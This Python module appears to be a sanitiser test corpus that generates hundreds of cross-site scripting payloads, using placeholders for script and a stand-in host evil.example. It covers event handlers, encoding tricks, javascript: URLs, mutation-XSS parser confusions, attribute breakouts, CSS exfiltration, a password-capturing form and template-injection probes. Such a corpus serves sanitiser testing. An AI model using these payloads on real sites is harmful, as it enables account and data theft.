"""Markup that would do harm if a page let it: several hundred attacks, after the families that are publicly known.

Each one that runs leaves a global on the page, ``harm<number>``, or opens a dialog,
or asks the host ``evil.example`` for ``/<number>``: so a test can tell which it was.
They are written with three words that stand for these: ``JS``, ``DIALOG`` and ``EVIL``.
"""

import base64
import random
from dataclasses import dataclass
from itertools import cycle
from urllib.parse import quote

FOREIGN_HOST = "evil.example"

#: What rich text may hold, so that attacks stand on ground that stays.
ALLOWED_TAGS = ("p", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "a", "br", "img", "figure")


@dataclass(frozen=True)
class Payload:
    """One attack.

    :param number: What it signs its harm with.
    :param family: The idea behind it.
    """

    number: int
    family: str
    markup: str


def harm_name(number):
    """The global that payload *number* sets when it runs."""
    return f"harm{number}"


def a_tenth_of(payloads, seed):
    """Every tenth of *payloads*, another tenth for another *seed*, the same for the same."""
    return random.Random(seed).sample(payloads, max(1, len(payloads) // 10))


# --- Event handlers ----------------------------------------------------------

EVENTS = """
    abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
    beforematch beforepaste beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click
    close command contentvisibilityautostatechange contextlost contextmenu copy cuechange cut dblclick drag dragend
    dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin
    focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load
    loadeddata loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup
    mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointermove
    pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll
    scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show
    slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
    transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationstart
    wheel
"""

# Those that need nobody to click.
EAGER_ELEMENTS = [
    "<img src=x onerror=JS>",
    "<img src=/static/pictures/ark-day.webp onload=JS>",
    "<img srcset=x onerror=JS>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg><image href=x onerror=JS>",
    "<svg><script>JS</script>",
    "<svg><script href=data:,JS />",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><set onbegin=JS attributename=x>",
    "<svg><animatetransform onbegin=JS attributeName=transform>",
    "<svg><animatemotion onbegin=JS>",
    "<svg><style onload=JS>p{}</style>",
    "<svg><a onfocus=JS xlink:href=# tabindex=1 autofocus>",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<body onresize=JS><iframe onload=JS>",
    "<frameset onload=JS>",
    "<style onload=JS>p{color:red}</style>",
    "<style onerror=JS>@import'x'</style>",
    "<link rel=stylesheet href=x onerror=JS>",
    "<script src=x onerror=JS></script>",
    "<script>JS</script>",
    "<script>DIALOG</script>",
    "<script type=module>JS</script>",
    "<script src=EVIL></script>",
    "<iframe onload=JS>",
    "<iframe src=javascript:JS>",
    "<object data=x onerror=JS>",
    "<object data=javascript:JS>",
    "<embed src=javascript:JS>",
    "<embed src=/ onload=JS>",
    "<video src=x onerror=JS>",
    "<video><source onerror=JS>",
    "<video autoplay onloadstart=JS src=x>",
    "<audio src=x onerror=JS>",
    "<audio src onloadstart=JS>",
    "<video poster=EVIL>",
    "<details open ontoggle=JS>",
    "<details ontoggle=JS open>x<summary>y",
    "<marquee onstart=JS>x",
    "<marquee loop=1 width=0 onfinish=JS>x",
    "<input autofocus onfocus=JS>",
    "<textarea autofocus onfocus=JS>",
    "<select autofocus onfocus=JS>",
    "<button autofocus onfocus=JS>x",
    "<p tabindex=0 autofocus onfocus=JS>x</p>",
    "<p contenteditable autofocus onfocus=JS>x</p>",
    "<a href=# autofocus onfocusin=JS>x</a>",
    "<em style=animation-name:x onanimationstart=JS>x</em>",
    "<style>@keyframes x{}</style><em style=animation:x onanimationend=JS>x</em>",
    "<img src=x onerror=DIALOG>",
    "<input type=image src=x onerror=JS>",
    "<isindex type=image src=x onerror=JS>",
    "<keygen autofocus onfocus=JS>",
    "<track src=x onerror=JS>",
    "<video><track default src=EVIL kind=captions></video>",
    "<dialog open onclose=JS autofocus><form method=dialog>",
    "<xss autofocus tabindex=1 onfocus=JS style=display:block>x</xss>",
    "<p hidden=until-found onbeforematch=JS id=x>x</p>",
    "<p oncontentvisibilityautostatechange=JS style=display:block;content-visibility:auto>x</p>",
]


def event_handlers():
    yield from EAGER_ELEMENTS
    tags = cycle(ALLOWED_TAGS)
    for event in EVENTS.split():
        yield f'<{next(tags)} on{event}="JS">x'
    for tag in ALLOWED_TAGS:
        yield f"<{tag} onclick=JS onmouseover=JS onfocus=JS tabindex=0 autofocus>x</{tag}>"
        yield f'<{tag} href="/" onpointerenter="DIALOG">x</{tag}>'


# --- How a tag can be spelt --------------------------------------------------

SPELLINGS = [
    "<IMG SRC=x ONERROR=JS>",
    "<ImG sRc=x OnErRoR=JS>",
    "<img/src=x/onerror=JS>",
    "<img\tsrc=x\tonerror=JS>",
    "<img\nsrc=x\nonerror\n=\nJS>",
    "<img\rsrc=x\ronerror=JS>",
    "<img\fsrc=x\fonerror=JS>",
    "<img\x0bsrc=x onerror=JS>",
    "<img/ /src=x/ /onerror=JS>",
    "<img src='x'onerror=JS>",
    '<img src="x"onerror=JS>',
    "<img src=x onerror='JS'>",
    '<img src=x onerror="JS">',
    "<img src=x onerror=`JS`>",
    "<img src=x onerror = JS>",
    "<img src=x\xa0onerror=JS>",
    "<img src=x onerror=JS //",
    "<img src=x onerror=JS <p>",
    "<img src=x onerror=JS",
    "<img src=x alt= onerror=JS>",
    '<img src=x alt="" onerror=JS "">',
    '<img """><script>JS</script>">',
    "<img '''><script>JS</script>'>",
    "<img ```><script>JS</script>`>",
    '<img alt="x" src=x "=" onerror=JS>',
    "<img =x src=x onerror=JS>",
    "<img src=x ' onerror=JS '>",
    '<img src=x " onerror=JS ">',
    "<img src=x < onerror=JS>",
    "<img src=x /onerror=JS>",
    "<img src=x onerror=JS onerror=DIALOG>",
    '<img data-media="x" data-media=y src=x onerror=JS>',
    "<img src=x xmlns:onerror=JS onerror=JS>",
    "<img src=x on\terror=JS>",
    "<img src=x on&#101;rror=JS>",
    "<img src=x onerror&#61;JS>",
    "<img src=x onerror=&#116;op.x=1,JS>",
    "<img src=x onerror=&#x74;op.x=1,JS>",
    "<img src=x onerror=&#0000116op.x=1,JS>",
    "<img src=x onerror=\\u0074op.x=1,JS>",
    "<img src=x onerror=eval('JS')>",
    "<img src=x onerror=Function`JS```>",
    "<img src=x onerror=setTimeout('JS')>",
    "<img src=x onerror=location='javascript:JS'>",
    "<img src=x onerror=location='EVIL'>",
    "<img src=x onerror=import('EVIL')>",
    "<img src=x onerror=fetch('EVIL')>",
    "<img src=x onerror=navigator.sendBeacon('EVIL')>",
    "<img src=x onerror=document.write('<script>JS</script>')>",
    "<img src=x:x onerror=JS>",
    "<img src onerror=JS>",
    "<img loading=lazy src=x onerror=JS>",
    "<img src=x style=display:none onerror=JS>",
    "<svg/onload=JS>",
    "<svg\nonload\n=\nJS\n>",
    '<svg onload="JS"/>',
    "<svg onload=JS//",
    "<svg onload=JS<!--",
    "<svg id=x><svg onload=JS>",
    "<script/x>JS</script>",
    "<script\t>JS</script\t>",
    "<script x=>JS</script x>",
    "<SCRIPT>JS</SCRIPT>",
    "<ScRiPt>JS</sCrIpT>",
    "<script>JS//",
    "<script>JS",
    "<script ~~~>JS</script ~~~>",
    "<script src=data:text/javascript,JS></script>",
    "<script src='data:;base64,B64'></script>",
    "<script\x00>JS</script>",
    "<scr\x00ipt>JS</scr\x00ipt>",
    "\x00<script>JS</script>",
    "<\x00script>JS</script>",
    "<img src=x on\x00error=JS>",
    "<img\x00src=x onerror=JS>",
    "<img src=x onerror\x00=JS>",
    "<a href='java\x00script:JS'>x</a>",
    "<\ufeffimg src=x onerror=JS>",
    "<\u200bscript>JS</script>",
    "\ufeff<script>JS</script>",
    "<\uff53cript>JS</script>",
    "\uff1cscript\uff1eJS\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=JS\uff1e",
    "\u2039script\u203aJS\u2039/script\u203a",
    "\u3008img src=x onerror=JS\u3009",
    "\u226ascript\u226bJS",
    "<\u017fcript>JS</\u017fcript>",
    "<\u0131frame onload=JS>",
    "<\u0130frame onload=JS>",
    "<lin\u212a rel=stylesheet onerror=JS href=x>",
    "<img src=x \u043enerror=JS>",
    "<img src=x onerro\u0280=JS>",
    "\u02ba><script>JS</script>",
    "<img alt=\u201dx\u201d src=x onerror=JS>",
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "\xbcscript\xbeJS\xbc/script\xbe",
    "%3Cscript%3EJS%3C/script%3E",
    "%253Cscript%253EJS%253C/script%253E",
    "%C0%BCscript%C0%BEJS%C0%BC/script%C0%BE",
    "\xc0\xbcscript\xc0\xbeJS",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "\\x3cscript\\x3eJS\\x3c/script\\x3e",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;",
    "&#60;script&#62;JS&#60;/script&#62;",
    "&#x3c;img src=x onerror=JS&#x3e;",
    "&#0000060img src=x onerror=JS&#62",
    "&ltimg src=x onerror=JS&gt",
    "&LT;img src=x onerror=JS&GT;",
    "&nvlt;script&nvgt;JS",
    "\u202e<img src=x onerror=JS>\u202c",
    "\u2028<script>\u2028JS\u2029</script>",
    "<s\u00adcript>JS</script>",
    "<script>\u180eJS</script>",
    "\udcff<script>JS</script>",
    "\ud83d<img src=x onerror=JS>",
]


def spellings():
    yield from SPELLINGS


# --- Addresses that run ------------------------------------------------------

SCRIPT_ADDRESSES = [
    "javascript:JS",
    "JAVASCRIPT:JS",
    "JavaScript:JS",
    "jAvAsCrIpT:DIALOG",
    " javascript:JS",
    "\tjavascript:JS",
    "\njavascript:JS",
    "\x01javascript:JS",
    "\x08javascript:JS",
    "\x1fjavascript:JS",
    "\x0cjavascript:JS",
    " \x01\x02\x1e javascript:JS",
    "&#1;javascript:JS",
    "&#32;javascript:JS",
    "&#x1f;javascript:JS",
    "&#0;javascript:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java\r\nscript:JS",
    "j\na\nv\na\ns\nc\nr\ni\np\nt\n:\nJS",
    "java&Tab;script:JS",
    "java&NewLine;script:JS",
    "java&#9;script:JS",
    "java&#10;script:JS",
    "java&#13;script:JS",
    "java&#x09;script:JS",
    "java&#x0A;script:JS",
    "java&#xd;script:JS",
    "java&#0;script:JS",
    "java\\0script:JS",
    "javascript\t:JS",
    "javascript\n:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "javascript&#58JS",
    "javascript&#x3a;JS",
    "javascript&#x0003A;JS",
    "javascript&#0000058;JS",
    "&#106;avascript:JS",
    "&#x6a;avascript:JS",
    "&#0000106avascript:JS",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58JS",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3AJS",
    "&amp;#106;avascript:JS",
    "&quot;javascript:JS",
    "\\x6aavascript:JS",
    "\\u006aavascript:JS",
    "%6aavascript:JS",
    "javascript%3AJS",
    "javascript:JS//",
    "javascript://example.org/%0AJS",
    "javascript://%0aJS",
    "javascript://%E2%80%A8JS",
    "javascript:/*http://*/JS",
    "javascript:'<svg onload=JS>'",
    "javascript:%22<script>JS</script>%22",
    "javascript:void(JS)",
    "javascript:eval('JS')",
    "javascript:\\u0074op.x=1;JS",
    "javascript:&#x74;op.x=1;JS",
    "javascript:top['ha'+'rm']=1;JS",
    "javascript:fetch('EVIL')",
    "javascript:location='EVIL'",
    "javascript:JS#https://example.org",
    "javascript:JS?https://example.org",
    "javascript\u2028:JS",
    "\u00a0javascript:JS",
    "\ufeffjavascript:JS",
    "\u200bjavascript:JS",
    "\u2003javascript:JS",
    "java\u00adscript:JS",
    "javascript\uff1aJS",
    "\uff4aavascript:JS",
    "java\u017fcript:JS",
    "javas\u200dcript:JS",
    "x-javascript:JS",
    "javascript1.5:JS",
    "livescript:JS",
    "mocha:JS",
    "ecmascript:JS",
    "jscript:JS",
    "vbscript:JS",
    "VBScript:MsgBox(1)",
    "vbs:JS",
    "view-source:javascript:JS",
    "feed:javascript:JS",
    "jar:javascript:JS!/",
    "pcast:javascript:JS",
    "firefoxurl:JS",
    "about:blank",
    "about:srcdoc",
    "blob:https://evil.example/1",
    "filesystem:http://evil.example/temporary/1",
    "file:///etc/passwd",
    "chrome://settings",
    "intent://evil.example#Intent;scheme=http;end",
    "ms-msdt:/id",
    "res://ieframe.dll/x",
    "steam://run/1",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,B64HTML",
    "DATA:text/html,<script>DIALOG</script>",
    "data:,<script>JS</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-JS+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
    "data:image/svg+xml;base64,B64SVG",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>JS</script>",
    "data:text/javascript,JS",
    "da\nta:text/html,<script>JS</script>",
    "d&#97;ta:text/html,<script>JS</script>",
    "data&colon;text/html,<script>JS</script>",
    "ftp://evil.example/1",
    "ws://evil.example/1",
    "//javascript:JS",
    "/\tjavascript:JS",
    "https:javascript:JS",
    "http:\njavascript:JS",
    "mailto:javascript:JS",
    "tel:javascript:JS",
    "mailto:x@example.org?body=<script>JS</script>",
    "?javascript:JS",
    "#javascript:JS",
    "./javascript:JS",
    "1javascript:JS",
    "-javascript:JS",
    "javascript",
]

# Where an address can stand.
ADDRESS_PLACES = [
    "<a href='javascript:JS' target=_blank rel=opener ping=EVIL download>x</a>",
    "<a xlink:href=javascript:JS>x</a>",
    "<a HREF=javascript:JS>x</a>",
    "<a href=javascript:JS href=/>x</a>",
    "<a href=/ href=javascript:JS>x</a>",
    "<a href=javascript:JS><strong><em>x",
    "<a href=javascript:JS><img data-media=x alt=y></a>",
    "<a href=javascript:JS><h2>x</h2></a>",
    "<area href=javascript:JS shape=default>",
    "<map name=m><area shape=rect coords=0,0,999,999 href=javascript:JS></map><img usemap=#m src=x>",
    "<svg><a xlink:href=javascript:JS><text y=20>x</text></a>",
    "<svg><a href=javascript:JS><text y=20>x</text></a>",
    "<svg><a><animate attributeName=href values=javascript:JS /><text y=20>x</text></a>",
    "<svg><a><set attributeName=href to=javascript:JS /><text y=20>x</text></a>",
    "<svg><a xlink:href=#x><animate attributeName=xlink:href from=javascript:JS to=#y>",
    "<svg><use href=data:image/svg+xml;base64,B64SVG#x>",
    "<svg><use xlink:href=EVIL#x>",
    "<svg><image xlink:href=EVIL>",
    "<svg><feimage href=EVIL>",
    "<svg><foreignobject><iframe src=javascript:JS>",
    "<math href=javascript:JS>x</math>",
    "<math><mi xlink:href=javascript:JS>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:JS>x</maction></math>",
    "<form action=javascript:JS><input type=submit value=x>",
    "<form><button formaction=javascript:JS>x",
    "<form id=f></form><button form=f formaction=javascript:JS>x",
    "<input type=submit formaction=javascript:JS form=sign-in>",
    "<form action=EVIL method=post><input name=password autofocus>",
    "<base href=javascript:JS//>",
    "<base href=EVIL>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<meta http-equiv=refresh content='0;url=EVIL'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=data:text/html,<script>JS</script>'>",
    "<meta http-equiv=set-cookie content='session=x'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<meta http-equiv=x-ua-compatible content=IE=7>",
    "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>",
    "<meta name=csrf-token content=mine>",
    "<meta name=editable-root content=EVIL/>",
    "<link rel=stylesheet href=EVIL>",
    "<link rel=stylesheet href=javascript:JS>",
    "<link rel=import href=EVIL>",
    "<link rel=preload as=script href=EVIL>",
    "<link rel=modulepreload href=EVIL>",
    "<link rel=prefetch href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<link rel=manifest href=EVIL>",
    "<link rel=icon href=EVIL>",
    '<script type=importmap>{"imports":{"x":"EVIL"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["EVIL"]}]}</script>',
    "<iframe srcdoc='<script>JS</script>'>",
    "<iframe srcdoc=&lt;script&gt;JS&lt;/script&gt;>",
    "<iframe srcdoc='&lt;img src=x onerror=JS&gt;'></iframe>",
    "<iframe src='data:text/html,<script>JS</script>'>",
    "<iframe src=EVIL>",
    "<iframe name=harm src=/></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' srcdoc='<script>JS</script>'>",
    "<fencedframe src=EVIL>",
    "<portal src=EVIL onload=JS>",
    "<frameset><frame src=javascript:JS></frameset>",
    "<noframes><frame src=javascript:JS></noframes>",
    "<object data=EVIL>",
    "<object data='data:text/html,<script>JS</script>' type=text/html>",
    "<object type=text/x-scriptlet data=EVIL></object>",
    "<object><param name=src value=javascript:JS></object>",
    "<object classid=clsid:x codebase=javascript:JS>",
    "<embed src=EVIL>",
    "<embed type=image/svg+xml src='data:image/svg+xml;base64,B64SVG'>",
    "<embed code=EVIL allowscriptaccess=always>",
    "<applet code=x archive=EVIL>",
    "<bgsound src=javascript:JS>",
    "<layer src=EVIL>",
    "<xml src=EVIL id=x>",
    "<img src=javascript:JS>",
    "<img dynsrc=javascript:JS>",
    "<img lowsrc=javascript:JS>",
    "<img longdesc=javascript:JS src=x>",
    "<img src=EVIL>",
    "<img srcset='EVIL 1x'>",
    "<img srcset='EVIL 1x, EVIL 2x' data-media=x>",
    "<img sizes=1px srcset=EVIL>",
    "<img data-media=x src=EVIL alt=y>",
    "<img data-media=EVIL>",
    "<img data-media=../../EVIL>",
    "<img data-media=javascript:JS>",
    "<picture><source srcset=EVIL><img data-media=x></picture>",
    "<video src=EVIL>",
    "<audio src=EVIL autoplay>",
    "<video><source src=EVIL></video>",
    "<input type=image src=EVIL>",
    "<body background=EVIL>",
    "<body background=javascript:JS>",
    "<table background=EVIL><tr><td background=javascript:JS>x",
    "<html manifest=EVIL>",
    "<blockquote cite=javascript:JS>x</blockquote>",
    "<q cite=javascript:JS>x</q>",
    "<ins cite=javascript:JS>x</ins>",
    "<ul type=EVIL><li value=JS>x",
    "<a href=EVIL>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href=https:evil.example>x</a>",
    "<a href=\\\\evil.example\\>x</a>",
    "<a href=/\\evil.example>x</a>",
    "<a href=https://example.org@evil.example>x</a>",
    "<a href=https://evil.example%00.example.org>x</a>",
    "<a href='https://example.org/\" onclick=\"JS'>x</a>",
    "<a href='https://example.org/&quot; onclick=&quot;JS'>x</a>",
    "<a href='https://example.org/><img src=x onerror=JS>'>x</a>",
]


def addresses():
    for address in SCRIPT_ADDRESSES:
        mark = '"' if "'" in address else "'"
        yield f"<a href={mark}{address}{mark}>x</a>"
    yield from ADDRESS_PLACES


# --- What another parser would read otherwise --------------------------------

RAW_TEXT = ("style", "script", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext")
INERT = ("template", "select", "option", "object", "table", "frameset")
NAMESPACES = (
    "svg",
    "math",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "svg><foreignobject><math",
    "math><mi",
    "math><mtext",
    "math><annotation-xml",
    'math><annotation-xml encoding="text/html"',
    'math><annotation-xml encoding="application/xhtml+xml"',
    "math><mtext><mglyph",
    "math><mtext><malignmark",
    "math><mtext><table><mglyph",
    "form><math><mtext></form><form><mglyph",
    "svg></p><p",
    "math></br><p",
)
PICTURE = "<img src=x onerror=JS>"


def mutations():
    """Text in one parse, tags in the next: what made sanitisers fail that read HTML once."""
    for namespace in NAMESPACES:
        for raw in RAW_TEXT:
            yield f'<{namespace}><{raw}><a title="</{raw}>{PICTURE}">'
        yield f"<{namespace}><style><!--</style>{PICTURE}--></style>"
        yield f"<{namespace}><style><p title='</style>{PICTURE}'>"
        yield f"<{namespace}><![CDATA[><style><{PICTURE}]]>"
        yield f"<{namespace}>{PICTURE}"
    for raw in (*RAW_TEXT, *INERT):
        yield f"<{raw}>{PICTURE}</{raw}>"
        yield f"<{raw}></{raw}>{PICTURE}"
        yield f'<{raw}><p title="</{raw}>{PICTURE}">'
        yield f"<{raw}><!--</{raw}>{PICTURE}-->"
        yield f"<p><{raw}><em></{raw}><{raw}>{PICTURE}"
        yield f"&lt;{raw}>{PICTURE}&lt;/{raw}>"
    yield from MUTATIONS


MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=JS>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    '<math><mtext><h2><table><style><a title="</style><img src=x onerror=JS>">',
    '<svg><desc><p><style><a title="</style></svg><img src=x onerror=JS>">',
    "<svg><p><style><g title='</style><img src=x onerror=JS>'>",
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    '<p><noscript><em title="</noscript><img src=x onerror=JS>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=JS>">',
    "<select><style></select><img src=x onerror=JS></style>",
    "<select><iframe></select><img src=x onerror=JS>",
    "<select><option><style></option></select><img src=x onerror=JS></style>",
    "<table><td><svg><style></td></table><img src=x onerror=JS>",
    "<table><caption><svg><title><table><tr></caption><style><img src=x onerror=JS>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=JS>'>",
    "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=JS></style>",
    "<math><mi><table><mglyph><style></mi></math><img src=x onerror=JS>",
    "<svg><foreignobject><p><table><svg><style></table></svg><img src=x onerror=JS>",
    "<svg><svg><desc><table><style></desc></svg><img src=x onerror=JS>",
    "<template><style></template><img src=x onerror=JS></style>",
    "<template shadowrootmode=open><script>JS</script></template>",
    "<p><template shadowrootmode=open><img src=x onerror=JS></template></p>",
    "<plaintext><img src=x onerror=JS>",
    "<listing>&lt;img src=x onerror=JS&gt;</listing>",
    "<xmp>&lt;/xmp><img src=x onerror=JS></xmp>",
    "<a><table><a href=javascript:JS>x</table></a>",
    "<p><a><p><a href=javascript:JS>x",
    "<h2><button><h3><img src=x onerror=JS></button>",
    "<strong><p></strong><script>JS</script>",
    "<frameset><noframes><img src=x onerror=JS></noframes>",
    "<html><body><frameset><html onload=JS>",
    "<p></html><body onload=JS>",
    "<html onclick=JS><body onclick=JS>x",
    "<svg><script>&#116;op.x=1,JS</script>",
    "<svg><script>//&#10;JS</script>",
    "<svg><script>/*<em></em>*/JS</script></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=JS>]]>",
    "<svg><![CDATA[<img src=x onerror=JS>]]></svg>",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "<![CDATA[><script>JS</script>]]>",
    "<math><![CDATA[</math><img src=x onerror=JS>]]>",
    "<!--><img src=x onerror=JS>-->",
    "<!---><img src=x onerror=JS>-->",
    "<!-- --!><img src=x onerror=JS>-->",
    "<!-- --><img src=x onerror=JS><!-- -->",
    "<!--<!--><img src=x onerror=JS>-->",
    "<!--<img src=x onerror=JS>",
    "<!-- `><img src=x onerror=JS>-->",
    "<!--[if gte IE 4]><script>JS</script><![endif]-->",
    "<![if !IE]><img src=x onerror=JS><![endif]>",
    "<!><img src=x onerror=JS>",
    "<!x><img src=x onerror=JS>",
    "<?x><img src=x onerror=JS>",
    "<?xml version='1.0'?><img src=x onerror=JS>",
    "<?xml-stylesheet href='javascript:JS'?><p>x",
    "<?php echo '<script>JS</script>' ?>",
    "<% <img src=x onerror=JS> %>",
    "<!DOCTYPE html><img src=x onerror=JS>",
    "<!DOCTYPE x [<!ENTITY y '<script>JS</script>'>]><p>&y;</p>",
    '<!DOCTYPE x "><img src=x onerror=JS>">',
    "<!ENTITY x SYSTEM 'EVIL'><p>&x;",
    "</><img src=x onerror=JS>",
    "</ p><img src=x onerror=JS>",
    "</?><img src=x onerror=JS>",
    "</!--><img src=x onerror=JS>-->",
    "<//><img src=x onerror=JS>",
    "</p onclick=JS>x",
    "</script><script>JS</script>",
    "</style></title></textarea></noscript><img src=x onerror=JS>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    "*/</style><script>JS</script>",
    "';JS//",
    '";JS//',
    "`;JS//",
    "${JS}",
    "{{constructor.constructor('JS')()}}",
    "{{7*7}}{% for x in config %}{{x}}{% endfor %}",
    "{{''.__class__.__mro__}}",
    "{!! JS !!}",
    "<%= JS %>",
    "#{JS}",
    "<<script>JS</script>",
    "<<<img src=x onerror=JS>>>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<im<img src=y>g src=x onerror=JS>",
    "<img src=x onerror=JS<img src=x onerror=JS>",
    "<p<img src=x onerror=JS>",
    "<p <img src=x onerror=JS>>",
    "<p/<img src=x onerror=JS>",
    '<a href="<img src=x onerror=JS>">x</a>',
    "<a href='x'<img src=x onerror=JS>>x</a>",
    "<a <!-- href=x --> onclick=JS>x</a>",
    "< img src=x onerror=JS>",
    "<p>x</p<img src=x onerror=JS>",
    "<1 onclick=JS>x",
    "<p:x onclick=JS>x</p:x>",
    "<svg:script>JS</svg:script>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>JS</html:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "<p xml:base=javascript:JS><a href=#>x</a></p>",
    "<p is=x-evil onclick=JS>x</p>",
    "<x-evil onclick=JS>x</x-evil>",
    "<slot onslotchange=JS>x</slot>",
]


# --- Out of an attribute, out of a style -------------------------------------

BREAKOUTS = [
    '"><img src=x onerror=JS>',
    "'><img src=x onerror=JS>",
    "`><img src=x onerror=JS>",
    "><img src=x onerror=JS>",
    '" onmouseover=JS x="',
    "' onmouseover=JS x='",
    "` onmouseover=JS x=`",
    '"autofocus tabindex=0 onfocus=JS x="',
    "x onmouseover=JS",
    "x/onmouseover=JS",
    '\\" onmouseover=JS x=\\"',
    '"/><script>JS</script>',
    '"></p></div></body><script>JS</script>',
    '" style="position:fixed;inset:0;background:url(EVIL)',
    "&quot;><img src=x onerror=JS>",
    "&#34;><img src=x onerror=JS>",
    "&#x22 onmouseover=JS x=&#x22",
    "&amp;quot;><img src=x onerror=JS>",
    "&lt;img src=x onerror=JS&gt;",
    '\n"\n>\n<img src=x onerror=JS>',
    "\u201d><img src=x onerror=JS>",
    '\u0300"><img src=x onerror=JS>',
]

BROKEN_OUT_OF = [
    '<img data-media="{}" alt="x">',
    "<img data-media='{}' alt=x>",
    '<img data-media="x" alt="{}">',
    "<img data-media=x alt='{}'>",
    '<a href="{}">x</a>',
    "<a href='/{}'>x</a>",
    '<a href="https://example.org/{}">x</a>',
    '<p title="{}">x</p>',
    '<p class="{}">x</p>',
    '<p id="{}" data-editable="{}">x</p>',
]


def breakouts():
    yield from BREAKOUTS
    for frame in BROKEN_OUT_OF:
        for breakout in BREAKOUTS:
            yield frame.replace("{}", breakout)


STYLES = [
    "<p style=xss:expression(JS)>x</p>",
    "<p style=xss:ex/**/pression(JS)>x</p>",
    "<p style='width: e\\78 pression(JS)'>x</p>",
    "<p style=background:url(javascript:JS)>x</p>",
    "<p style=background:url(EVIL)>x</p>",
    "<p style='background-image:u\\72l(EVIL)'>x</p>",
    "<p style='background:image-set(\"EVIL\" 1x)'>x</p>",
    "<p style=list-style-image:url(EVIL)>x</p>",
    "<p style=behavior:url(EVIL)>x</p>",
    "<p style=-moz-binding:url(EVIL#x)>x</p>",
    "<p style=-o-link:'javascript:JS';-o-link-source:current>x</p>",
    "<p style='content:url(EVIL)'>x</p>",
    "<p style='cursor:url(EVIL),auto'>x</p>",
    "<p style='font-family:x;src:url(EVIL)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    "<a href=https://evil.example style='position:fixed;inset:0;opacity:0'>x</a>",
    "<style>@import 'EVIL';</style>",
    "<style>@import url(EVIL)</style>",
    "<style>p{background:url(EVIL)}</style>",
    "<style>@font-face{font-family:x;src:url(EVIL)}p{font-family:x}</style>",
    "<style>input[value^=a]{background:url(EVIL)}</style>",
    "<style>p{xss:expression(JS)}</style>",
    "<style>p{behavior:url(EVIL)}</style>",
    "<style type=text/javascript>JS</style>",
    "<style>*{display:none}</style>",
    "<style><img src=x onerror=JS></style>",
    "<style>@keyframes x{}p{animation:x}</style><p onanimationstart=JS>x",
    "<link rel=stylesheet href='data:text/css,p{background:url(EVIL)}'>",
    "<svg><style>@import 'EVIL';</style>",
    "<svg style=background:url(EVIL)>",
    "<svg><rect fill=url(EVIL#x)>",
    "<svg><filter><feimage xlink:href=EVIL></filter>",
    "<font color=red face=EVIL onclick=JS>x</font>",
    "<table style='width:expression(JS)'><tr><td>x",
    "<br style=content:url(EVIL)>",
    "<h2 style=color:red;transition:1s ontransitionrun=JS>x</h2>",
]


def styles():
    yield from STYLES


# --- Names that page and editor look for -------------------------------------

CLOBBERING = [
    "<a id=harm>x</a>",
    "<a id=config><a id=config name=url href=EVIL>x</a>",
    "<a id=editable href=javascript:JS>x</a>",
    "<img name=getElementById data-media=x>",
    "<img name=querySelector src=x>",
    "<img name=cookie src=x>",
    "<img name=body src=x>",
    "<form id=forms name=forms><input id=attributes name=attributes><input name=parentNode><input name=innerHTML>",
    "<form name=documentElement><output name=children>",
    "<form><input name=nodeName><input name=removeAttribute><input name=submit></form>",
    "<iframe name=fetch></iframe>",
    "<iframe name=Stimulus srcdoc='<a id=x>'></iframe>",
